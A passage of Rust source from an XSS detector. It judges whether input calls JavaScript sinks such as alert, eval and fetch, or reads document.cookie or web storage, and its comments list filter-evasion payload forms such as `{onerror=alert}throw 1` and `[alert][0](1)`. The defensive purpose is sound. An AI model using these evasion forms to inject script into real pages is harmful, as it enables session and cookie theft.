        for (st, _) in direct_sink_runs(b) {
            self.any = true;
            if !self.starts.push(st) {
                return;
            }
        }
    }
}

/// Whether `b` may hold a run that [`direct_sink`] accepts: one vectorized search for a
/// part of each of the [`DIRECT_SPELLINGS`] ([`SINK_WORDS`]; JavaScript's names are
/// case-sensitive) and, for `msgbox` in any case, its `sgbo` in any case. Every accepted run
/// holds one of these words, so where none occurs no run is a direct sink. `true` where the
/// CPU has no vector unit for the searcher.
fn may_name_direct_sink(b: &[u8]) -> bool {
    static WORDS: std::sync::LazyLock<Option<aho_corasick::packed::Searcher>> =
        std::sync::LazyLock::new(|| {
            let msgbox = (0..16u8).map(|case| {
                let mut w = *b"sgbo";
                for (k, c) in w.iter_mut().enumerate() {
                    if case & (1 << k) != 0 {
                        c.make_ascii_uppercase();
                    }
                }
                w.to_vec()
            });
            crate::search::packed_words(
                SINK_WORDS
                    .iter()
                    .map(|w| w.as_bytes().to_vec())
                    .chain(msgbox),
            )
        });
    WORDS.as_ref().is_none_or(|w| w.find(b).is_some())
}

/// A part of each of the [`DIRECT_SPELLINGS`] but `msgbox`, in order: at least four bytes
/// (the searcher then looks for four-byte prefixes) whose prefix text and markup seldom hold
/// (`ompt`, not `prom`; `nfirm`, not `conf`), so that it rarely stops to compare.
const SINK_WORDS: [&str; 11] = [
    "tHTM", "alert", "ompt", "nfirm", "eval", "etTim", "etInt", "fetch", "cScr", "atob", "import",
];

/// The identifier runs of `b` that start a token (`9alert` is one token, not `alert`) and
/// name a direct sink, as `(start, end)`, left to right.
fn direct_sink_runs(b: &[u8]) -> impl Iterator<Item = (usize, usize)> + '_ {
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < b.len() {
            if !is_ident_start(b[i]) || (i > 0 && is_ident(b[i - 1])) {
                i += 1;
                continue;
            }
            let st = i;
            while i < b.len() && is_ident(b[i]) {
                i += 1;
            }
            if direct_sink(&b[st..i]) {
                return Some((st, i));
            }
        }
        None
    })
}

/// The page's web storage objects, which hold what the cookie holds on sites that keep
/// their session tokens in script (`localStorage.token`, `sessionStorage.getItem('jwt')`).
const STORAGES: [&[u8]; 2] = [b"localStorage", b"sessionStorage"];

/// Where `document.cookie` (any case) or a member of a web storage object
/// (`localStorage.…`, `sessionStorage.…`) starts.
fn cookie_reads(b: &[u8], m: &mut Marks) {
    for p in memchr::memchr_iter(b'.', b) {
        let at = if p >= 8
            && b.len() - (p - 8) >= COOKIE.len()
            && b[p - 8..p - 8 + COOKIE.len()].eq_ignore_ascii_case(COOKIE)
        {
            p - 8
        } else if let Some(n) = STORAGES
            .iter()
            .find(|s| b[..p].ends_with(s))
            .map(|s| s.len())
        {
            p - n
        } else {
            continue;
        };
        if !m.push(at) {
            return;
        }
    }
}

/// Whether `window` holds a whole `document.cookie` (any case) or a storage member read
/// (`localStorage.`, `sessionStorage.`).
fn reads_secret(window: &[u8]) -> bool {
    (window.len() >= COOKIE.len()
        && window
            .windows(COOKIE.len())
            .any(|w| w.eq_ignore_ascii_case(COOKIE)))
        || STORAGES.iter().any(|s| {
            memchr::memmem::find_iter(window, s).any(|at| window.get(at + s.len()) == Some(&b'.'))
        })
}

/// What [`attribute_delimiters`] finds in a value, gathered by a pass that reads the value's
/// tags anyway (the XSS tag pass, on markup whose every tag it read as the ML gate's plain
/// grammar has it: there each quoted value of a start tag is such a pair, in order).
pub(super) struct Delimiters {
    /// (grown as pairs come, up to [`MAX_DELIMITERS`]: most values hold a few, and a
    /// zeroed array of the limit cost more to make than the pass it saves)
    at: Vec<usize>,
    quote_free: u128,
}

impl Delimiters {
    pub(super) fn new() -> Self {
        Delimiters {
            at: Vec::new(),
            quote_free: 0,
        }
    }

    /// The pairs and the quote-free bits, as [`attribute_delimiters`] reports them.
    pub(super) fn pairs(&self) -> (&[usize], u128) {
        (&self.at, self.quote_free)
    }

    /// The quoted value of a start tag between the quotes at `open` and `close`, holding no
    /// `<` or `>`: the pair [`attribute_delimiters`] notes (up to its limit). `quotes`: as
    /// that scan judges it, the value may hold a quote (one longer than [`NEAR`] bytes is
    /// not searched and counts as holding one).
    pub(super) fn push(&mut self, open: usize, close: usize, quotes: bool) {
        let n = self.at.len();
        if n >= MAX_DELIMITERS {
            return;
        }
        if !quotes {
            self.quote_free |= 1 << (n / 2);
        }
        if n == 0 {
            // (one allocation for the usual few tags' worth)
            self.at.reserve(64);
        }
        self.at.push(open);
        self.at.push(close);
    }
}

/// Positions of quotes that open or close an attribute value inside a tag that the value
/// itself opens (`<a title="open">`): in well-formed markup those quotes delimit HTML, they
/// cannot end a JavaScript string. A break-out from an attribute (`x" onclick=…`) starts
/// outside any tag of the value and is not affected. Bit k of `quote_free` is set when the
/// value between `out[2k]` and `out[2k + 1]` is known to hold no quote (`'`, `"`, backtick):
/// [`string_breakout`] then has nothing to look at inside it.
pub(super) fn attribute_delimiters(
    b: &[u8],
    out: &mut [usize; MAX_DELIMITERS],
    quote_free: &mut u128,
) -> usize {
    let mut n = 0;
    let mut i = 0;
    let mut in_tag = false;
    while i < b.len() && n < MAX_DELIMITERS {
        // only `<`, `=` and `>` change anything below: jump to the next one
        match next_tag_punct(b, i) {
            Some(p) => i = p,
            None => break,
        }
        match b[i] {
            b'<' if b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) => in_tag = true,
            b'>' => in_tag = false,
            b'=' if in_tag => {
                let j = skip_ws(b, i + 1);
                if let Some(&q @ (b'"' | b'\'')) = b.get(j) {
                    // the closing quote, and whether the value holds markup or a tag end
                    // (then it is not plain markup)
                    let Some(len) = memchr::memchr(q, &b[j + 1..]) else {
                        break;
                    };
                    let close = j + 1 + len;
                    let value = &b[j + 1..close];
                    // (most values are a word or two: a loop beats a dispatched search, and
                    // notes quotes on the way; a longer value is not searched for them)
                    let (markup, quotes) = if value.len() <= NEAR {
                        let m = value.iter().fold(0, |m, &c| m | VALUE_STOP[usize::from(c)]);
                        (m & stop::ANGLE != 0, m & stop::QUOTE != 0)
                    } else {
                        (memchr::memchr2(b'<', b'>', value).is_some(), true)
                    };
                    if !markup {
                        if !quotes {
                            *quote_free |= 1 << (n / 2);
                        }
                        out[n] = j;
                        out[n + 1] = close;
                        n += 2;
                    }
                    i = close + 1;
                    continue;
                }
            }
            _ => {}
        }
        i += 1;
    }
    n
}

/// Bytes looked at one by one before a search takes over in [`next_tag_punct`].
pub(super) const NEAR: usize = 16;

/// The first `<`, `=` or `>` at or after `i`. In markup they come every few bytes, closer
/// than a dispatched search pays off, so the next [`NEAR`] bytes are looked at first; a
/// longer run of text is left to `memchr3`.
fn next_tag_punct(b: &[u8], i: usize) -> Option<usize> {
    let near = b.len().min(i + NEAR);
    if let Some(p) = (i..near).find(|&p| TAG_PUNCT[usize::from(b[p])]) {
        return Some(p);
    }
    memchr::memchr3(b'<', b'=', b'>', &b[near..]).map(|p| near + p)
}

/// `<`, `=` and `>`: the bytes [`attribute_delimiters`] acts on.
static TAG_PUNCT: [bool; 256] = crate::byte_set(b"<=>");

/// Bytes of an attribute value that [`attribute_delimiters`] notes.
mod stop {
    /// `<` or `>`: markup inside the value
    pub const ANGLE: u8 = 1;
    /// a quote [`super::string_breakout`] counts
    pub const QUOTE: u8 = 2;
}

/// [`stop`] of every byte.
static VALUE_STOP: [u8; 256] = {
    let mut t = [0u8; 256];
    t[b'<' as usize] = stop::ANGLE;
    t[b'>' as usize] = stop::ANGLE;
    t[b'\'' as usize] = stop::QUOTE;
    t[b'"' as usize] = stop::QUOTE;
    t[b'`' as usize] = stop::QUOTE;
    t
};

/// Arguments after a direct sink's name (`args` starts at `(`) that make the "call" run
/// nothing: a dynamic `import()` with no specifier or a Node built-in one (`node:fs`, which
/// no browser loads), or API-reference notation for optional parameters
/// (`setTimeout(callback[, delay])`: `name[,` is not JavaScript).
fn inert_call_args(name: &[u8], args: &[u8]) -> bool {
    let a = skip_ws(args, 1);
    if name.eq_ignore_ascii_case(b"import") {
        let empty = args.get(a) == Some(&b')');
        let builtin =
            matches!(args.get(a), Some(b'\'' | b'"' | b'`')) && args[a + 1..].starts_with(b"node:");
        return empty || builtin;
    }
    // a timer given a function calls that function, which the scan judges where it
    // stands (`setTimeout(() => refresh(), 1000)`); only a string is compiled as code
    if (name.eq_ignore_ascii_case(b"settimeout") || name.eq_ignore_ascii_case(b"setinterval"))
        && function_literal_at(args, a)
    {
        return true;
    }
    // `fetch(url)`: one plain variable of the page (not `name`, a global or a sink) is
    // no URL the value chose
    if name.eq_ignore_ascii_case(b"fetch")
        && args.get(a).is_some_and(|&c| is_ident_start(c))
        && plain_operands(args, 1, b')')
            .is_some_and(|e| memchr::memchr(b',', &args[..e]).is_none() && read_then_ends(args, e))
    {
        return true;
    }
    // `fetch('/api/users')`: a request for the site's own path with no options sends nothing
    // the page does not already send, and what it reads stays in the page
    if name.eq_ignore_ascii_case(b"fetch") && matches!(args.get(a), Some(b'\'' | b'"')) {
        let q = args[a];
        let body = &args[a + 1..args.len().min(a + 1 + MAX_PLAIN_LITERAL)];
        if let Some(close) = memchr::memchr(q, body) {
            let lit = &body[..close];
            let k = skip_ws(args, a + 1 + close + 1);
            return matches!(lit, [b'/', c, ..] if c.is_ascii_alphanumeric())
                && !lit
                    .iter()
                    .any(|&x| matches!(x, b':' | b'<' | b'>' | b'\\' | b'+' | b'$'))
                && args.get(k) == Some(&b')');
        }
    }
    api_reference_args(args)
}

/// Whether a function literal starts at `b[i..]`: `function`, `async`, or arrow parameters
/// (`() =>`, `(a, b) =>`, `x =>`).
fn function_literal_at(b: &[u8], i: usize) -> bool {
    let rest = &b[i.min(b.len())..];
    let word = rest.iter().take_while(|&&c| is_ident(c)).count();
    if matches!(&rest[..word], b"function" | b"async") {
        return true;
    }
    let after = if rest.first() == Some(&b'(') {
        // parameters hold no parentheses we need
        match rest.iter().take(64).position(|&c| c == b')') {
            Some(p) => p + 1,
            None => return false,
        }
    } else if word > 0 {
        word
    } else {
        return false;
    };
    rest[skip_ws(rest, after)..].starts_with(b"=>")
}

/// Bytes of an argument list searched for API-reference notation.
const MAX_ARGS_SCAN: usize = 160;

/// API-reference notation for optional parameters anywhere in the argument list before its
/// `)`: `(callback[, delay])`, `(callback, delay[, ...args])`. `name[` followed by `,` is
/// not JavaScript (a member access needs an expression), so the "call" is documentation.
/// `args` starts at `(`.
fn api_reference_args(args: &[u8]) -> bool {
    let end = args.len().min(MAX_ARGS_SCAN);
    let mut k = 1;
    while k < end {
        match args[k] {
            b')' => return false,
            b'[' if is_ident(args[k - 1]) && args.get(skip_ws(args, k + 1)) == Some(&b',') => {
                return true;
            }
            _ => {}
        }
        k += 1;
    }
    false
}

/// Bytes scanned around a call when deciding whether it sits in a function body.
const MAX_BODY_SCAN: usize = 512;

/// Whether the call at `st` sits in the body of a function literal (`function(){…}`,
/// `() => {…}`) that the code defines but does not invoke: `_.defer(function(){ alert('x');
/// })`, `onClick: function(){ alert(…) }`. Such code hands a callback to someone else, as
/// documentation samples do; a payload runs its call directly or invokes the function it
/// builds (`(function(){…})()`, `function(){…}()`, `….call(…)`), which stays a call.
fn in_uninvoked_function(b: &[u8], st: usize) -> bool {
    let lo = st.saturating_sub(MAX_BODY_SCAN);
    let mut depth = 0usize;
    let mut k = st;
    let open = loop {
        if k <= lo {
            return false;
        }
        k -= 1;
        match b[k] {
            b'}' => depth += 1,
            b'{' if depth == 0 => break k,
            b'{' => depth -= 1,
            _ => {}
        }
    };
    let Some(head) = function_head(&b[lo..open]) else {
        return false;
    };
    if passed_to_invoker(b, lo + head) {
        return false;
    }
    let hi = b.len().min(open + 2 * MAX_BODY_SCAN);
    let mut depth = 0usize;
    let mut close = None;
    for (p, &c) in b[open..hi].iter().enumerate() {
        match c {
            b'{' => depth += 1,
            b'}' => {
                depth -= 1;
                if depth == 0 {
                    close = Some(open + p);
                    break;
                }
            }
            _ => {}
        }
    }
    // an unterminated body may be invoked beyond what we see
    let Some(close) = close else {
        return false;
    };
    let mut j = skip_ws(b, close + 1);
    if b.get(j) == Some(&b')') {
        j = skip_ws(b, j + 1);
    }
    !matches!(b.get(j), Some(b'(' | b'`' | b'.'))
}

/// Where the function literal starts whose head `before` (the code up to a `{`) ends with:
/// `function(…)`, `function name(…)` or an arrow `(…) =>` / `x =>`. `None` for other blocks.
fn function_head(before: &[u8]) -> Option<usize> {
    let last = before.iter().rposition(|c| !c.is_ascii_whitespace())?;
    if before[last] == b'>' {
        if last == 0 || before[last - 1] != b'=' {
            return None;
        }
        return Some(arrow_params_start(&before[..last - 1]));
    }
    if before[last] != b')' {
        return None;
    }
    // the matching `(` of the parameter list (parameters hold no parentheses we need)
    let paren = before[..last]
        .iter()
        .rposition(|&c| c == b'(' || c == b')')?;
    if before[paren] != b'(' {
        return None;
    }
    let mut e = paren;
    while e > 0 && before[e - 1].is_ascii_whitespace() {
        e -= 1;
    }
    let mut s = e;
    while s > 0 && is_ident(before[s - 1]) && e - s < 40 {
        s -= 1;
    }
    if &before[s..e] == b"function" {
        return Some(s);
    }
    // `function name(…)`
    let mut e2 = s;
    while e2 > 0 && before[e2 - 1].is_ascii_whitespace() {
        e2 -= 1;
    }
    (e2 >= 8 && e2 < s && &before[e2 - 8..e2] == b"function").then(|| e2 - 8)
}

/// Start of an arrow function's parameters, given the code up to its `=>`: `(a, b)` or `a`.
fn arrow_params_start(before: &[u8]) -> usize {
    let Some(last) = before.iter().rposition(|c| !c.is_ascii_whitespace()) else {
        return 0;
    };
    if before[last] == b')' {
        return before[..last].iter().rposition(|&c| c == b'(').unwrap_or(0);
    }
    let mut s = last + 1;
    while s > 0 && is_ident(before[s - 1]) {
        s -= 1;
    }
    s
}

/// Array and function methods that call the function they are given right away
/// (`[1].map(function(){…})`, `[1].find(x => alert(x))`, `f.call(…)`).
fn invokes_argument(name: &[u8]) -> bool {
    matches!(
        name,
        b"map"
            | b"forEach"
            | b"find"
            | b"findIndex"
            | b"findLast"
            | b"filter"
            | b"some"
            | b"every"
            | b"reduce"
            | b"reduceRight"
            | b"sort"
            | b"flatMap"
            | b"call"
            | b"apply"
            | b"from"
            | b"replace"
            | b"Promise"
            // timers call what they are given (a function literal is not their sink call:
            // [`inert_call_args`]), so a call in its body runs
            | b"setTimeout"
            | b"setInterval"
    )
}

/// Bytes scanned back from a function literal for the call it is an argument of.
const MAX_CALLEE_SCAN: usize = 256;

/// Whether the function literal starting at `start` is an argument of a call that invokes
/// it (see [`invokes_argument`]).
fn passed_to_invoker(b: &[u8], start: usize) -> bool {
    let lo = start.saturating_sub(MAX_CALLEE_SCAN);
    let mut depth = 0usize;
    let mut k = start;
    // the `(` of the argument list the literal is in
    let open = loop {
        if k <= lo {
            return false;
        }
        k -= 1;
        match b[k] {
            b')' | b']' | b'}' => depth += 1,
            b'(' if depth == 0 => break k,
            b'[' | b'{' if depth == 0 => return false,
            b'(' | b'[' | b'{' => depth -= 1,
            _ => {}
        }
    };
    let mut e = open;
    while e > 0 && b[e - 1].is_ascii_whitespace() {
        e -= 1;
    }
    let mut s = e;
    while s > 0 && is_ident(b[s - 1]) && e - s < 16 {
        s -= 1;
    }
    invokes_argument(&b[s..e])
}

/// Elements whose text content documentation uses to show code, not to run it.
fn code_sample_element(name: &[u8]) -> bool {
    ["code", "pre", "kbd", "samp", "tt", "var"]
        .iter()
        .any(|n| name.eq_ignore_ascii_case(n.as_bytes()))
}

/// Bytes scanned back from a call for the element it sits in.
const MAX_TEXT_SCAN: usize = 1024;

/// Whether the call at `st` is text content of a code-sample element the value opens
/// (`<code>atob(data)</code>`, `<pre>_.defer(function(){ alert('x'); })</pre>`): markup
/// renders that text, nothing runs it. A call inside a tag (an attribute) is not text.
fn in_code_sample_text(b: &[u8], st: usize) -> bool {
    let lo = st.saturating_sub(MAX_TEXT_SCAN);
    let mut k = st;
    while k > lo {
        k -= 1;
        if b[k] == b'>' {
            // the last tag before the call is closed: the call is text; look further back
            // for the element around it
            break;
        }
        if b[k] == b'<' {
            return false;
        }
    }
    let mut open_depth = 0usize;
    let mut p = st;
    while p > lo {
        p -= 1;
        if b[p] != b'<' {
            continue;
        }
        let end_tag = b.get(p + 1) == Some(&b'/');
        let ns = p + 1 + usize::from(end_tag);
        let mut ne = ns;
        // the names compared are at most 4 bytes: read no more than a few
        while ne < st && ne - ns < 8 && b[ne].is_ascii_alphanumeric() {
            ne += 1;
        }
        if !code_sample_element(&b[ns..ne]) {
            continue;
        }
        if end_tag {
            open_depth += 1;
        } else if open_depth == 0 {
            return true;
        } else {
            open_depth -= 1;
        }
    }
    false
}

/// Sink mentions per value whose surroundings (code element, uncalled function) are
/// examined; past that a mention counts as it stands, which bounds the work on a value
/// crafted with thousands of them.
const MAX_CONTEXT_CHECKS: usize = 64;

/// Code that calls a direct sink (`alert(`, ``alert`1` ``) or passes one around as a value
/// (`a=eval;`, `(alert)`, `x=alert,`): the usual way payloads dodge `alert(` filters.
fn code_mentions_sink(b: &[u8]) -> bool {
    mentions_sink(b, false, false)
}

/// [`code_mentions_sink`]; `bound`: the functions the code defines are bound as event
/// handlers (a Knockout binding), so a call in an uninvoked function's body runs too.
/// `whole`: `b` is the whole value, so a call that opens it may be a [`page_variable_call`].
fn mentions_sink(b: &[u8], bound: bool, whole: bool) -> bool {
    let mut context_checks = 0;
    let mut template = TemplateText::new();
    for (st, i) in direct_sink_runs(b) {
        let next = b.get(i).copied();
        // `server.setTimeout(…)`, `rl.prompt()`: a method of an ordinary object that shares
        // a sink's name; only a browser global's member is the sink
        if st > 1 && b[st - 1] == b'.' {
            let oe = st - 1;
            let mut os = oe;
            while os > 0 && is_ident(b[os - 1]) && oe - os < 16 {
                os -= 1;
            }
            if os < oe && !root_global(&b[os..oe]) && !event_view(b, os, oe) {
                // `[1].reduce(value.alert, 1)`, `arr.map(w.alert)`: the member handed, not
                // called, to a method that calls what it is given; an object whose member
                // shares a sink's name is most often the window under another name (an
                // AngularJS loop over `$event.view`, `ownerDocument.defaultView`)
                let passed = matches!(b.get(skip_ws(b, i)), Some(b',' | b')'))
                    && called_with_data(&b[st..i]);
                if passed && member_root_start(b, os).is_some_and(|r| passed_to_invoker(b, r)) {
                    return true;
                }
                continue;
            }
        }
        // `<code>eval()</code>`: an empty call closed by markup names the function in text
        // (a call inside a script element or handler is the markup rules' business)
        if next == Some(b'(') && b.get(i + 1) == Some(&b')') && b.get(i + 2) == Some(&b'<') {
            continue;
        }
        if next == Some(b'(') && inert_call_args(&b[st..i], &b[i..]) {
            continue;
        }
        // `atob() decodes base64; btoa() encodes it.`: a word after the call's `)` on its
        // line, or words side by side in its arguments, is a SyntaxError: prose
        if next == Some(b'(') && prose_call(&b[i..]) {
            continue;
        }
        // ``the `alert` function``: a name right after a backtick is either the text of the
        // template that backtick opens, or follows a template it closes with no operator
        // between (a SyntaxError). Either way it is never called: inline code in prose.
        if st > 0 && b[st - 1] == b'`' {
            continue;
        }
        // ``Run with `--eval` for a one-liner``: read as code, the sink lies inside the
        // template literal its odd backtick opened, which is text unless a `${` opens a
        // substitution (in a page's template the breaks are `string_breakout`'s business)
        if template.holds(b, st) {
            continue;
        }
        // code shown in a code element runs nowhere, whatever it does with the sink; each
        // such look-around scans a bounded window, and only so many are made per value
        if context_checks < MAX_CONTEXT_CHECKS {
            context_checks += 1;
            if in_code_sample_text(b, st) {
                continue;
            }
            if !bound && matches!(next, Some(b'(' | b'`')) && in_uninvoked_function(b, st) {
                continue;
            }
        }
        // `Notice that code passed to eval() …`: words side by side make the script a
        // SyntaxError before anything runs (bounded like the look-arounds above)
        if context_checks < MAX_CONTEXT_CHECKS {
            context_checks += 1;
            if words_side_by_side_before(b, st) {
                continue;
            }
        }
        // optional call `alert?.(1)`
        if next == Some(b'?') && b[i..].starts_with(b"?.(") {
            return true;
        }
        // `confirm(order)`, `setTimeout(fn, 1000)` opening the value: see
        // [`page_variable_call`]
        if whole
            && next == Some(b'(')
            && b[..st].iter().all(u8::is_ascii_whitespace)
            && page_variable_call(&b[st..])
        {
            continue;
        }
        if matches!(next, Some(b'(' | b'`')) {
            return true;
        }
        let prev_at = b[..st].iter().rposition(|c| !c.is_ascii_whitespace());
        let prev = prev_at.map(|p| b[p]);
        // a template substitution passing the sink: `` [].sort.call`${alert}1` ``
        if prev == Some(b'{')
            && prev_at.is_some_and(|p| p > 0 && b[p - 1] == b'$')
            && b[i..].iter().find(|c| !c.is_ascii_whitespace()) == Some(&b'}')
        {
            return true;
        }
        if matches!(prev, Some(b'=' | b',')) && matches!(next, Some(b';' | b',' | b')')) {
            return true;
        }
        // `[alert][0](1)`, `({a:alert}).a(1)`: a sink stored in a literal that is read
        // back and called on the spot
        if matches!(prev, Some(b'[' | b',' | b':'))
            && called_with_data(&b[st..i])
            && stored_then_called(b, i)
        {
            return true;
        }
        // `{valueOf:alert}+''`, `defineProperty(w,'x',{get:alert})`: a sink stored under a
        // key the engine calls by itself (a conversion, an accessor, a thenable, a proxy
        // trap), so using the object runs it with no call syntax in the value
        if prev == Some(b':')
            && matches!(b.get(skip_ws(b, i)), Some(b'}' | b','))
            && called_with_data(&b[st..i])
            && prev_at.is_some_and(|p| implicitly_called_key(&b[..p]))
        {
            return true;
        }
        // `{onerror=alert}throw 1`, `{window.onload=eval}`: a sink made an event handler, as
        // the last statement of a block or of the value; the browser calls it with the
        // event (for `onerror`, with what a `throw` throws). The assignee must be an `on…`
        // property: `{level=alert}` in a log template assigns nothing that runs.
        if prev == Some(b'=')
            && matches!(b.get(skip_ws(b, i)), None | Some(b'}'))
            && prev_at.is_some_and(|p| assigns_handler(&b[..p]))
        {
            return true;
        }
        // `[1].reduce(alert, 1)`, `p.then(alert, f)`: the sink handed as the first of
        // several arguments to a call, which calls it
        if prev == Some(b'(')
            && b.get(skip_ws(b, i)) == Some(&b',')
            && called_with_data(&b[st..i])
            && prev_at.is_some_and(|p| passed_to_invoker(b, p + 1))
        {
            return true;
        }
        if prev == Some(b'(') && next == Some(b')') {
            // `(alert)(1)` or `.find(alert)`; not prose "(alert)"
            let after = b.get(i + 1).copied();
            let before_paren = prev_at.and_then(|p| p.checked_sub(1)).map(|p| b[p]);
            if matches!(after, Some(b'(' | b'`'))
                || before_paren.is_some_and(|c| is_ident(c) || c == b']' || c == b')')
            {
                return true;
            }
        }
    }
    false
}

/// Bytes read after a stored sink for the end of its literal and the member read.
const MAX_STORED_SCAN: usize = 64;

/// Whether the array or object literal element ending at `i` belongs to a literal that is
/// indexed or has a member read and the result called right away: `[alert][0](1)`,
/// `[1,alert][1]\`x\``, `({a:alert}).a(1)`, `({a:alert})['a'](1)`.
fn stored_then_called(b: &[u8], i: usize) -> bool {
    let end = b.len().min(i + MAX_STORED_SCAN);
    let mut depth = 0usize;
    let mut k = i;
    // the literal's closing `]` or `}`
    let close = loop {
        if k >= end {
            return false;
        }
        match b[k] {
            b'(' | b'[' | b'{' => depth += 1,
            b')' if depth == 0 => return false,
            b']' | b'}' if depth == 0 => break k,
            b')' | b']' | b'}' => depth -= 1,
            b'\'' | b'"' | b'`' | b';' | b'<' => return false,
            _ => {}
        }
        k += 1;
    };
    let mut j = close + 1;
    if b.get(j) == Some(&b')') {
        j += 1;
    }
    match b.get(j) {
        Some(b'[') => {
            let Some(r) = b[j..end.max(j)].iter().position(|&c| c == b']') else {
                return false;
            };
            j += r + 1;
        }
        Some(b'.') => {
            j += 1;
            let s = j;
            while j < b.len() && is_ident(b[j]) && j - s < 32 {
                j += 1;
            }
            if j == s {
                return false;
            }
        }
        _ => return false,
    }
    matches!(b.get(j), Some(b'(' | b'`'))
}

/// Whether `before` (the bytes before a `:`) ends with an object-literal key whose
/// function the engine calls without the script writing a call: conversions (`valueOf`,
/// `toString`, `toJSON`), accessors (`get`, `set`), `then` (awaiting or resolving with the
/// object), `handleEvent` (an event listener object) and proxy traps. The key must open a
/// property (`{` or `,` before it): `case get:` or a label is not one.
fn implicitly_called_key(before: &[u8]) -> bool {
    let mut e = before.len();
    while e > 0 && before[e - 1].is_ascii_whitespace() {
        e -= 1;
    }
    let mut s = e;
    while s > 0 && is_ident(before[s - 1]) && e - s < 16 {
        s -= 1;
    }
    let opens = before[..s]
        .iter()
        .rev()
        .find(|c| !c.is_ascii_whitespace())
        .is_some_and(|&c| matches!(c, b'{' | b','));
    opens
        && matches!(
            &before[s..e],
            b"valueOf"
                | b"toString"
                | b"toJSON"
                | b"get"
                | b"set"
                | b"then"
                | b"handleEvent"
                | b"apply"
                | b"construct"
                | b"has"
                | b"deleteProperty"
                | b"ownKeys"
                | b"getPrototypeOf"
        )
}

/// The start of the member chain (`value.alert`, `a.b.alert`) whose last `.` precedes
/// the name starting at `os`'s object: the object name at `os`, then back over `ident.`
/// pairs (at most 8).
fn member_root_start(b: &[u8], os: usize) -> Option<usize> {
    let mut r = os;
    for _ in 0..8 {
        if r < 2 || b[r - 1] != b'.' || !is_ident(b[r - 2]) {
            return Some(r);
        }
        let mut s = r - 1;
        while s > 0 && is_ident(b[s - 1]) && r - s < 40 {
            s -= 1;
        }
        r = s;
    }
    None
}

/// A direct sink called with the page's own variables and numbers only (`confirm(order)`,
/// `setTimeout(fn, 1000)`, `eval(expression) in math`), `b` starting at the sink's name.
/// The arguments are evaluated before the call: a name the page does not define throws a
/// ReferenceError and nothing runs, and a timer given the page's function calls only that
/// function. A payload names what the browser defines for it (`alert(1)`, `eval(name)`,
/// `alert(origin)`, `alert(document.domain)`, `setTimeout(alert)`), so only a lower-case
/// name that is no sink, global, window datum or handler-scope property counts, and the
/// call must end the value (or be followed by prose): what follows as code is judged.
fn page_variable_call(b: &[u8]) -> bool {
    let n = b.iter().take_while(|&&c| is_ident(c)).count();
    if !direct_sink(&b[..n]) || b.get(n) != Some(&b'(') {
        return false;
    }
    let mut k = skip_ws(b, n + 1);
    let mut variables = 0;
    for _ in 0..MAX_PLAIN_OPERANDS {
        if let Some(e) = numeric_literal(b, k) {
            k = e;
        } else {
            let mut e = k;
            while e < b.len() && is_ident(b[e]) && e - k < 40 {
                e += 1;
            }
            if e == k || !page_variable(&b[k..e]) {
                return false;
            }
            variables += 1;
            k = e;
        }
        k = skip_ws(b, k);
        match b.get(k) {
            Some(b',') => k = skip_ws(b, k + 1),
            Some(b')') => {
                let rest = &b[k + 1..];
                let r = skip_ws(rest, 0);
                let ends = rest[r..]
                    .iter()
                    .all(|&c| c == b';' || c.is_ascii_whitespace());
                // `… in math`, `… evaluates the string`: words after a blank
                let prose = r > 0 && rest[r].is_ascii_alphabetic();
                return variables > 0 && (ends || prose);
            }
            _ => return false,
        }
    }
    false
}

/// A lower-case name that a page defines for itself, not the browser: no sink, global,
/// literal keyword, window datum (`name`, `origin`, `opener`…) or property an inline
/// handler reaches by its scope (`cookie`, `domain`, `src`, `id`, `value`…). The browser's
/// constructors and constants are capitalised (`Math`, `XSS` too, to stay on the safe side).
fn page_variable(w: &[u8]) -> bool {
    w.first()
        .is_some_and(|c| c.is_ascii_lowercase() || *c == b'_')
        && !names_sink(w)
        && !root_global(w)
        && literal_keyword(w, 0).is_none()
        && !matches!(
            w,
            b"name"
                | b"origin"
                | b"opener"
                | b"event"
                | b"status"
                | b"length"
                | b"closed"
                | b"history"
                | b"localStorage"
                | b"sessionStorage"
                | b"screen"
                | b"crypto"
                | b"arguments"
                | b"domain"
                | b"cookie"
                | b"referrer"
                | b"documentURI"
                | b"baseURI"
                | b"title"
                | b"src"
                | b"href"
                | b"id"
                | b"value"
                | b"action"
                | b"innerHTML"
                | b"outerHTML"
                | b"innerText"
                | b"textContent"
                | b"hash"
                | b"search"
                | b"pathname"
                | b"host"
                | b"hostname"
                | b"protocol"
                | b"port"
                | b"forms"
                | b"links"
                | b"images"
                | b"scripts"
                | b"head"
                | b"frames"
                | b"defaultView"
        )
}

/// Whether `before` (the code up to an `=`) ends with an event-handler property name
/// (`onerror`, `window.onload`): `on` and a lower-case letter, the name not joined to a
/// longer word.
fn assigns_handler(before: &[u8]) -> bool {
    let e = before
        .iter()
        .rposition(|c| !c.is_ascii_whitespace())
        .map_or(0, |p| p + 1);
    let mut s = e;
    while s > 0 && is_ident(before[s - 1]) && e - s < 32 {
        s -= 1;
    }
    let name = &before[s..e];
    name.len() > 3
        && name.starts_with(b"on")
        && name[2].is_ascii_lowercase()
        && name[2..].iter().all(u8::is_ascii_lowercase)
        && (s == 0 || !is_ident(before[s - 1]))
}

/// Whether positions of a value, asked left to right, lie inside a template literal's text
/// when the value is read as code: an odd number of backticks before the position, and no
/// `${` after the last of them. The state is carried from one position to the next, so a
/// value with many sink names is still read once (not once per name).
struct TemplateText {
    /// Bytes before this have been read.
    at: usize,
    /// An odd number of backticks so far.
    odd: bool,
    /// A `${` since the last backtick.
    substitution: bool,
}

impl TemplateText {
    fn new() -> TemplateText {
        TemplateText {
            at: 0,
            odd: false,
            substitution: false,
        }
    }

    /// Whether `st` (not before any position asked already) lies in template text of `b`.
    fn holds(&mut self, b: &[u8], st: usize) -> bool {
        for p in memchr::memchr2_iter(b'`', b'{', &b[self.at..st]) {
            let p = self.at + p;
            if b[p] == b'`' {
                self.odd = !self.odd;
                self.substitution = false;
            } else if p > 0 && b[p - 1] == b'$' {
                self.substitution = true;
            }
        }
        self.at = st;
        self.odd && !self.substitution
    }
}

/// Longest stretch of a line read back from a sink by [`words_side_by_side_before`].
const MAX_LINE_BACK: usize = 256;

/// Whether the line that holds the sink starting at `st` has, before it and outside strings,
/// two words side by side that no JavaScript keyword joins (`Notice that code passed to
/// eval()`). That is an early SyntaxError: the whole script fails to parse and nothing in it
/// runs, so the sink is named in prose, not called. Only the sink's own line counts (a value
/// reflected into a line comment runs from its first line break on), text before a `*/` is
/// dropped (it may close a block comment), and a line with markup or `//` is left to the
/// other rules, as is a word followed by `=` (`x onerror=alert(1)` is an attribute in a tag).
